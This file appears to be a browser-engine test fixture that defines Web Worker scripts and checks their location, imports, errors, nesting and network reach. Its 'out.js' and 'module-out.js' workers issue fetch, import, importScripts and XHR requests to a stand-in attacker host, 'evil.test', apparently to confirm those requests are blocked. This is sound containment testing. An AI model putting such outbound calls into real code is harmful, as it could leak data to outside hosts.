/* What workers of files are like, and how far they get: one result a case, by its name. */
const workers = {
  "classic.js": `
    importScripts("more.js");
    const asked = new XMLHttpRequest();
    asked.open("GET", "near.txt", false);
    asked.send();
    const seen = {
      href: location.href, text: String(location), parts: [location.origin, location.pathname,
        location.search, location.hash, location.host], name: self.name, more: self.more,
      kind: location instanceof WorkerLocation, near: asked.responseURL,
      request: new Request("near.txt").url, wasm: typeof new WebAssembly.Module(
        new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
    };
    const hears = (worker, told) => new Promise((done) => {
      worker.onmessage = (event) => done(event.data);
      worker.onerror = (event) => done("error " + event.message);
      if (told) worker.postMessage(told);
    });
    onmessage = async (event) => {
      seen.told = event.data;
      const near = await fetch("near.txt");
      seen.fetched = near.url;
      seen.referrer = await (await fetch("/referrer")).text();
      seen.imported = (await import("./part.js")).here;
      seen.nested = await hears(new Worker("nested.js", { name: "inner" }));
      seen.module = await hears(new Worker("module.js", { type: "module" }), "inner");
      const blob = URL.createObjectURL(new Blob(["postMessage('of a blob')"]));
      const made = new Worker(blob);
      URL.revokeObjectURL(blob);
      seen.blob = await hears(made);
      postMessage(seen);
    };`,
  "more.js": `self.more = location.href;`,
  "part.js": `export const here = import.meta.url;`,
  "nested.js": `postMessage([self.name, location.href]);`,
  "module.js": `import { here } from "./part.js";
    onmessage = (event) => postMessage([event.data, here, import.meta.url, location.href]);`,
  "throws.js": `

    throw new TypeError("of the worker");`,
  "later.js": `setTimeout(() => { throw new Error("later"); }, 10);`,
  "broken.js": `let let;`,
  "out.js": `const to = "http://evil.test/worker?";
    const tries = [fetch(to + "fetch", { mode: "no-cors" }), import(to + "import")];
    try { importScripts(to + "scripts"); } catch {}
    const asked = new XMLHttpRequest();
    asked.open("GET", to + "xhr", false);
    try { asked.send(); } catch {}
    tries.push(fetch(new Request(to + "request"), { mode: "no-cors" }));
    Promise.allSettled(tries).then(() => postMessage("tried"));`,
  "outer.js": `const inner = new Worker("out.js");
    inner.onmessage = (event) => postMessage(event.data);`,
  "module-out.js": `await fetch("http://evil.test/worker?module", { mode: "no-cors" }).catch(() => 0);
    postMessage("tried");`,
  "strict.js": `fetch("near.txt").then(() => postMessage("got"), () => postMessage("refused"));`,
  "near.txt": `near`,
};

/** What a worker says first. */
const first = (make, told) =>
  new Promise((done) => {
    const worker = make();
    const near = (event) => event.filename?.replace(/.*\//, "");
    worker.onmessage = (event) => done(event.data);
    worker.onerror = (event) => done([event.type, event.message, near(event), event.lineno]);
    if (told) worker.postMessage(told);
  });

const like = {
  classic: () => first(() => new Worker("/of/classic.js?a=1#b", { name: "one" }), { n: 1 }),
  module: () => first(() => new Worker(new URL("/of/module.js", location), { type: "module" }), 2),
  throws: () => first(() => new Worker("/of/throws.js")),
  "module throws": () => first(() => new Worker("/of/throws.js", { type: "module" })),
  later: () => first(() => new Worker("/of/later.js")),
  "broken module": () => first(() => new Worker("/of/broken.js", { type: "module" })),
  "no type": () => {
    try {
      return new Worker("/of/classic.js", { type: "text" });
    } catch (error) {
      return error.message;
    }
  },
  heir: () => first(() => new (class extends Worker {})("/of/nested.js", { name: "heir" })),
};

const out = {
  classic: () => first(() => new Worker("/of/out.js")),
  nested: () => first(() => new Worker("/of/outer.js")),
  module: () => first(() => new Worker("/of/module-out.js", { type: "module" })),
  "of a blank frame": () => {
    const frame = document.body.appendChild(document.createElement("iframe"));
    return first(() => new frame.contentWindow.Worker("/of/out.js"));
  },
};

/** All of one list. */
async function all(cases) {
  const results = {};
  for (const [name, run] of Object.entries(cases)) results[name] = await run();
  return results;
}
